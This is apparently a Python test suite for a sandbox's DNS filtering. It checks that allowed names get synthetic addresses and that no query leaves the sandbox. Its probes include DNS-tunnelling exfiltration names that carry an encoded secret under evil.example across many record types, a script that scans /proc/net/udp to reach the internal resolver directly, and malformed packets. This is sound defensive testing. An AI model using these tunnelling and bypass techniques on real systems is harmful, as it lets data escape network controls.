# SPDX-License-Identifier: Apache-2.0
"""N1: decide on the name before any query leaves; only A for allowed names, synthetic; all else refused or NODATA."""
import base64
import dns_wire
from lab.case import Case
from lab.internet import GOOD, RESOLVER

REFUSED, NO_SUCH_NAME = 5, 3
SECRET = "c2VjcmV0IGRhdGEgdGhhdCBsZWF2ZXM"
TUNNELS = ([(f"{SECRET}.evil.example", kind) for kind in ("A", "AAAA", "TXT", "NULL", "ANY", "HTTPS", "SVCB", "MX", "SRV",
                                                          "CNAME", "NS", "PTR")] +
           [(".".join(["x" * 63] * 3) + ".evil.example", "A"), (f"{SECRET}.GoOd.example.evil.example", "A"),
            (f"{SECRET}.evil.example.", "TXT"), (f"EVIL{SECRET}.eViL.eXaMpLe", "A"), (f"{SECRET}.good.example", "A"),
            (f"{SECRET}.good.example", "TXT"), ("xn--bcher-kva.evil.example", "A"), ("b\xfccher.evil.example", "A")])


class N1(Case):
    def setUp(self):
        super().setUp()
        self.inside = self.lab.sandbox("good.example", "shared.good.example")

    def test_an_allowed_name_stands_for_an_address_of_its_own_and_works(self):
        self.assertEqual(self.beside.resolve(name="good.example")["addresses"], [GOOD])
        self.assertIn("at " + GOOD, self.beside.talk(host="good.example", port=80, until="at " + GOOD,
                                                     chunks=[GET])["got"])
        found = self.inside.resolve(name="good.example")["addresses"]
        self.assertEqual(len(found), 1, found)
        self.assertTrue(found[0].startswith(("198.18.", "198.19.")), found)
        self.assertEqual(self.inside.resolve(name="good.example")["addresses"], found, "it is stable")
        self.assertNotEqual(self.inside.resolve(name="shared.good.example")["addresses"], found, "one a name")
        self.net.forget()
        told = self.inside.talk(host="good.example", port=80, until="at " + GOOD, chunks=[GET])
        self.assertIn("good.example at " + GOOD, told["got"], told)
        self.assertTrue(self.net.web.log(kind="http", host="good.example", to=GOOD))

    def test_to_resolve_an_allowed_name_asks_nobody(self):
        self.beside.dns(name="good.example")
        self.assertEqual(len(self.net.dns.log(name="good.example")), 1)
        self.net.forget()
        self.assertEqual(self.inside.dns(name="good.example")["rcode"], 0)
        self.nothing_left()

    def test_another_name_is_refused_and_no_query_leaves(self):
        told = self.beside.dns(name="evil.example")
        self.assertEqual(told["answers"][0][3], "198.51.100.82", told)
        self.assertTrue(self.net.dns.log(name="evil.example"))
        self.net.forget()
        told = self.inside.dns(name="evil.example")
        self.assertEqual(told["rcode"], NO_SUCH_NAME, told)
        self.assertIsNotNone(told["extended"], "it says why")
        self.assertLess(told["ms"], 500)
        self.assertEqual(self.inside.resolve(name="evil.example")["error"], "name")
        self.nothing_left()

    def test_no_tunnel_through_names_or_types(self):
        for name, kind in TUNNELS:
            self.beside.dns(name=name, kind=kind)
        seen = {event["name"].lower() for event in self.net.dns.log()}
        missing = [name for name, _ in TUNNELS if name.rstrip(".").lower() not in seen]
        self.assertEqual(missing, [], "beside the sandbox each of them leaves")
        self.net.forget()
        for name, kind in TUNNELS:
            told = self.inside.dns(name=name, kind=kind)
            self.assertEqual((told["error"], told.get("answers")), (None, []), (name, kind, told))
            self.assertIn(told["rcode"], (REFUSED, NO_SUCH_NAME, 1), (name, kind, told))
        self.nothing_left()

    def test_other_types_of_an_allowed_name_have_no_data(self):
        for kind in ("TXT", "NULL", "ANY", "HTTPS", "SVCB", "AAAA", "MX"):
            self.beside.dns(name="good.example", kind=kind)
            told = self.inside.dns(name="good.example", kind=kind)
            self.assertEqual((told["rcode"], told["answers"]), (0, []), (kind, told))
        self.assertEqual(len(self.net.dns.log(name="good.example")), 7, "only those from beside left")

    def test_tcp_and_other_servers_make_no_difference(self):
        ways = [{"tcp": True}, {"server": RESOLVER}, {"server": RESOLVER, "tcp": True}, {"server": "8.8.8.8", "seconds": 1},
                {"server": "8.8.8.8", "tcp": True, "seconds": 1}, {"server": "127.0.0.11"},
                {"server": "127.0.0.11", "tcp": True}, {"source_port": 53}]
        for way in ways:
            self.net.forget()
            self.beside.dns(name=f"{SECRET}.evil.example", **way) if "source_port" not in way else None
            self.assertTrue(self.left() or "source_port" in way, ("beside the sandbox it leaves", way))
            self.net.forget()
            told = self.inside.dns(name=f"{SECRET}.evil.example", kind="TXT", **way)
            self.assertTrue(told["error"] not in (None, "timeout") or told.get("rcode") in (REFUSED, NO_SUCH_NAME),
                            (way, told))
            self.nothing_left(way)
            if "8.8.8.8" in way.values():
                told = self.inside.dns(name="good.example", **way)
                self.assertTrue(told["answers"][0][3].startswith("198.1"), "whom one asks is all the same")

    def test_the_resolver_of_the_engine_is_out_of_reach_by_its_own_ports_too(self):
        query = base64.b64encode(dns_wire.query(7, [b"evil", b"example"], 16)).decode()
        script = ("import socket,base64\nq=base64.b64decode('%s')\nfor p in open('/proc/net/udp').read().split('\\n')[1:]:\n"
                  " if ' 0B00007F:' in p:\n  s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(1)\n"
                  "  try:\n   s.sendto(q,('127.0.0.11',int(p.split()[1][-4:],16))); print('answer',s.recv(999)[:2])\n"
                  "  except OSError as e: print(repr(e))\n" % query)
        self.assertIn("answer", self.beside.run(argv=["python3", "-c", script])["out"])
        self.assertTrue(self.net.dns.log(name="evil.example"))
        self.net.forget()
        told = self.inside.run(argv=["python3", "-c", script])
        self.assertNotIn("answer", told["out"])
        self.nothing_left()

    def test_a_hundred_broken_queries_leave_nothing_and_break_nothing(self):
        good = dns_wire.query(7, [b"evil", b"example"], 1)
        bad = [good[:cut] for cut in range(len(good))] + [good + b"x" * 4000, b"\xff" * 512, good[:2] + b"\x84\0" + good[4:],
                                                          good[:4] + b"\0\2" + good[6:], good[:12] + b"\xc0\x0c" + good[14:]]
        for data in bad:
            self.inside.dns(raw=base64.b64encode(data).decode(), seconds=0.02)
        self.nothing_left()
        self.assertEqual(self.inside.dns(name="good.example")["rcode"], 0)


GET = base64.b64encode(b"GET / HTTP/1.1\r\nHost: good.example\r\n\r\n").decode()
